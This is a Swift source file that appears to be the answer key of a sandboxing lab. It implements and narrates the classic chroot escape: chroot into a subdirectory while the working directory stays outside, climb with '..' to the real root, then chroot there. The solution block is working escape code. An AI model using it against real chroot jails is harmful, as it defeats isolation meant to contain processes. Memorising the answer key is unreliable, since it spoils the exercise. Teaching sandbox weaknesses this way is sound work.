// The classic chroot escape, step by step.
//
// The kernel stops ".." at a process's root directory only when the walk
// passes *through* that root. chroot(2) does not move the working directory,
// so: chroot into a subdirectory while the cwd stays above it, and the cwd is
// now outside the root; from there ".." climbs to the real "/". Requires
// CAP_SYS_CHROOT, which every root process has unless it is dropped.
import SandboxCore

#if canImport(Glibc)
    import Glibc
#endif

struct ChrootEscape {
    let narrator: Narrator
    /// Where the chroot is on the host, to clean up after we are out.
    let rootfs: String

    func run() throws {
        narrator.explain("the escape: a root process may call chroot again, and chroot does not move the cwd")
        // BEGIN SOLUTION lab01-escape: Make a directory inside the jail, chroot into it without changing directory (the cwd is now outside the root), climb with chdir("..") until "." and ".." are the same directory, then chroot("."). Remove the directory afterwards.
        let hideout = ".sb-escape-\(getpid())"
        try narrator.step("mkdir(\"/\(hideout)\")") { try Sys.mkdir("/" + hideout, mode: 0o700) }
        // Keep the jail's root open: removing the directory through this fd
        // works wherever our root ends up, also if a step below fails.
        let jail = try Sys.openDirectory("/")
        defer { Sys.removeDirectory(named: hideout, in: jail) }
        try narrator.step("chroot(\"/\(hideout)\")", detail: "the cwd stays behind, outside the new root") {
            try Sys.chroot("/" + hideout)
        }
        var climbs = 0
        try narrator.step("chdir(\"..\") until \".\" is \"..\"") {
            while try Sys.stat(".") != Sys.stat("..") && climbs < 4096 {
                try Sys.chdir("..")
                climbs += 1
            }
        }
        try narrator.step("chroot(\".\")", detail: "after \(climbs) steps up") { try Sys.chroot(".") }
        // Now at the real root: the hideout is a host path under the rootfs.
        try narrator.step("rmdir(\"\(rootfs)/\(hideout)\")") { try Sys.rmdir(rootfs + "/" + hideout) }
        // END SOLUTION
    }
}
